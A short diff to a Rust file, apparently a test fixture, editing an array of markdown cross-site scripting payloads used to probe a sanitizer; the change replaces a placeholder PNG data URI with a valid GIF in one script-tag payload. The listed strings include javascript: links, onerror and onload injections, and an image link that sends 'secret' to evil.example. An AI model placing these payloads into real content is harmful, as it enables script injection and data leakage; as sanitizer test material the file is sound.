@@ -185,7 +185,7 @@ const PAYLOADS: [&str; 53] = [
     "<https://a.b/\"onclick=alert(1)//>",
     "![x](javascript:alert(1))",
     "![x\" onerror=\"alert(1)](https://a.b/c.png)",
-    "![\"><script>alert(1)</script>](data:image/png;base64,AAAA)",
+    "![\"><script>alert(1)</script>](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==)",
     "![x](data:image/svg+xml;base64,PHN2Zy8+)",
     "![x](data:image/png;base64,AAAA\"onload=\"alert(1))",
     "![a][r]\n\n[r]: https://evil.example/?q=secret",
